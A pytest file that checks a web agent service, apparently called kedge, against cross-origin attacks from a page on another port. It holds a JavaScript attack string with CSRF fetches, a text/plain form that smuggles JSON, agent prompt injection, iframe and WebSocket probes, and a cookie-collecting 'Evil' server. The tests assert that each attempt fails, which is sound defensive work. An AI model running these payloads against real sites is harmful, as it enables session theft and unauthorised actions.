"""A page of another site in a browser that is logged in: it changes nothing, reads nothing and shows no frame.

The page has another port of this machine, so that the browser sends it the cookie and sends the cookie from it, as the
cookies of a host belong to all of its ports."""

from __future__ import annotations

import threading
from collections.abc import AsyncIterator, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page

from kedge.testing.hosted import HostedEndpoint
from tests.server.web_tab import ticket
from tests.web.live import Live, serving

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.usefixtures("web_page")]

#: What a script of the page reads or sees, by name. A refused fetch is its error.
ATTACK = """async ([url, at, session, prompt]) => {
    const seen = {};
    const attempt = async (name, options, path = `${at}/sessions`) => {
        try {
            const reply = await fetch(`${url}/v1${path}`, { credentials: "include", ...options });
            seen[name] = reply.type === "opaque" ? "opaque" : `${reply.status} ${await reply.text()}`;
        } catch (error) {
            seen[name] = error.name;
        }
    };
    const json = { "content-type": "application/json" };
    const body = JSON.stringify({ session_id: session, prompt });
    await attempt("read", {});
    await attempt("read without cors", { mode: "no-cors" });
    await attempt("read with a key", { headers: { "x-kedge-key": "0".repeat(43) } });
    await attempt("prompt", { method: "POST", headers: json, body }, `${at}/agent`);
    await attempt("prompt as text", { method: "POST", mode: "no-cors", body }, `${at}/agent`);
    await attempt("delete", { method: "DELETE" }, `${at}/sessions/${session}`);
    await attempt("log-out", { method: "POST", mode: "no-cors" }, "/web/logout");
    await attempt("stream", { headers: { accept: "text/event-stream" } }, `${at}/events`);
    await attempt("page", {}, "/../");

    const form = document.createElement("form");
    Object.assign(form, { method: "post", enctype: "text/plain", target: "target", action: `${url}/v1${at}/agent` });
    const field = document.createElement("input");
    // The body of such a form is NAME=VALUE: JSON, in a format that needs no consent of the server.
    field.name = body.slice(0, -1) + ', "x": "';
    field.value = '"}';
    form.append(field);
    const target = document.createElement("iframe");
    target.name = "target";
    document.body.append(target, form);
    const loaded = (element) => new Promise((done) => {
        element.onload = () => done("load");
        element.onerror = () => done("error");
    });
    const posted = loaded(target);
    form.submit();
    await posted;
    try {
        seen.form = target.contentDocument?.body.innerHTML ?? "unreadable";
    } catch (error) {
        seen.form = error.name;
    }

    for (const [name, tag, path] of [
        ["image", "img", `/v1${at}/sessions`],
        ["script", "script", `/v1${at}/sessions`],
    ]) {
        const element = document.createElement(tag);
        const end = loaded(element);
        element.src = url + path;
        document.body.append(element);
        seen[name] = await end;
    }
    const frame = document.createElement("iframe");
    const framed = loaded(frame);
    frame.src = url;
    document.body.append(frame);
    await framed;
    seen.frame = frame.contentDocument === null ? "unreadable" : "readable";

    const opened = await new Promise((done) => {
        const socket = new WebSocket(url.replace("http", "ws") + `/v1${at}/events`);
        socket.onopen = () => done("open");
        socket.onerror = () => done("error");
    });
    seen.socket = opened;
    return seen;
}"""


class Evil(BaseHTTPRequestHandler):
    """An empty page. It keeps the cookies that it receives."""

    cookies: list[str]

    def do_GET(self) -> None:
        self.cookies.append(self.headers.get("cookie", ""))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>evil</title><body>")

    def log_message(self, *arguments: object) -> None:
        pass


@pytest.fixture(scope="module")
def evil() -> Iterator[tuple[int, list[str]]]:
    """The port of the page, and the cookies that it has received."""
    cookies: list[str] = []
    handler = type("Handler", (Evil,), {"cookies": cookies})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_address[1], cookies
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def endpoint() -> Iterator[HostedEndpoint]:
    with HostedEndpoint() as endpoint:
        yield endpoint


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def live(
    endpoint: HostedEndpoint, browser: Browser, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Live]:
    async with serving(tmp_path_factory.mktemp("sites"), endpoint, browser) as live:
        yield live


async def log_in(live: Live, page: Page) -> None:
    await page.goto(f"{live.server.url}/#ticket={await ticket(live.peer.http)}")
    await page.locator(".shell").wait_for()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["same-site", "cross-site"])
async def test_page_of_another_origin_acts_and_reads_nothing(
    host: str, live: Live, evil: tuple[int, list[str]]
) -> None:
    session = await live.peer.session("Secret title")
    before = await live.peer.messages(session)
    async with await live.browser.new_context() as context:
        own = await context.new_page()
        await log_in(live, own)
        page = await context.new_page()
        replies: list[tuple[int, str]] = []
        page.on("response", lambda reply: replies.append((reply.status, f"{reply.request.method} {reply.url}")))
        await page.goto(f"http://{host}:{evil[0]}/")
        seen: dict[str, str] = await page.evaluate(
            ATTACK, [live.server.url, live.peer.at, session, "script: say attacked"]
        )
        assert "Secret title" not in str(seen)
        readable = {name: what for name, what in seen.items() if what not in REFUSED.get(name, ("TypeError",))}
        assert readable == {}
        sent = [(status, name) for status, name in replies if live.server.url in name]
        assert sent
        assert [(status, name) for status, name in sent if status < 400] == []
        # The frame shows the error page of the browser.
        frame = next(frame for frame in page.frames if frame.url.startswith(("chrome-error:", live.server.url)))
        assert "kedge" not in await frame.content()
        await own.reload()
        await own.locator(".shell").wait_for()  # it is still logged in
    assert await live.peer.runs(session) == []
    assert await live.peer.messages(session) == before


#: Results that are harmless, besides a failed fetch.
REFUSED = {
    "read without cors": ("opaque", "TypeError"),
    "prompt as text": ("opaque", "TypeError"),
    "log-out": ("opaque", "TypeError"),
    "form": ("SecurityError", "unreadable"),
    "image": ("error",),
    "script": ("error",),
    "frame": ("unreadable",),
    "socket": ("error",),
}


async def test_stolen_cookie_is_refused_without_the_key(live: Live, evil: tuple[int, list[str]]) -> None:
    """The cookies of a host are sent to all of its ports: another server can collect this one."""
    port, cookies = evil
    async with await live.browser.new_context() as context:
        page = await context.new_page()
        await log_in(live, page)
        cookies.clear()
        await page.goto(f"http://127.0.0.1:{port}/v1/collect")
        [stolen] = [cookie for cookie in cookies if "kedge_web_" in cookie]
        assert await page.evaluate("document.cookie") == "", "scripts cannot read it"
        assert await page.evaluate("localStorage.length") == 0, "nor the key of another origin"
        await page.goto(f"http://127.0.0.1:{port}/")
        assert "kedge_web_" not in cookies[-1], "it is for /v1 only"
    async with await live.browser.new_context() as thief:
        headers = {"cookie": stolen, "origin": live.server.url, "sec-fetch-site": "same-origin"}
        for more in ({}, {"x-kedge-key": "0" * 43}):
            reply = await thief.request.get(f"{live.server.url}/v1/web/access", headers={**headers, **more})
            assert reply.status == 401
            assert (await reply.json())["code"] == "unauthorized"
        # The cookie alone in a browser, on the page itself.
        page = await thief.new_page()
        name, _, value = stolen.partition("=")
        await thief.add_cookies([{"name": name, "value": value, "url": f"{live.server.url}/v1"}])
        await page.goto(live.server.url)
        await page.get_by_role("heading", name="This browser has no access").wait_for()
        status: Any = await page.evaluate("fetch('/v1/web/access').then((reply) => reply.status)")
        assert status == 401
